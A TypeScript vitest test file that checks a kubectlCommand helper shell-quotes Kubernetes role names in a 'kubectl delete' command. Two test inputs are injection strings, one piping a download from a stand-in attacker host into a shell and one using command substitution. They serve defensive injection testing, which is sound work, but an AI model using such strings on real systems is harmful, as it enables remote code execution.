import { expect, test } from "vitest";
import type { Kind } from "../api/kind.ts";
import { kubectlCommand } from "./kubectl-command.ts";

const role = { plural: "roles", group: "rbac.authorization.k8s.io", namespaced: true } as Kind;

test.each([
  ["web:reader", "roles.rbac.authorization.k8s.io/web:reader"],
  ["x; curl evil.example|sh", "'roles.rbac.authorization.k8s.io/x; curl evil.example|sh'"],
  ["it's $(id)", "'roles.rbac.authorization.k8s.io/it'\\''s $(id)'"],
])("a role named %s is quoted as one shell word", (name, word) => {
  expect(kubectlCommand("delete", role, { namespace: "ns", name })).toBe(`kubectl delete ${word} -n ns`);
});
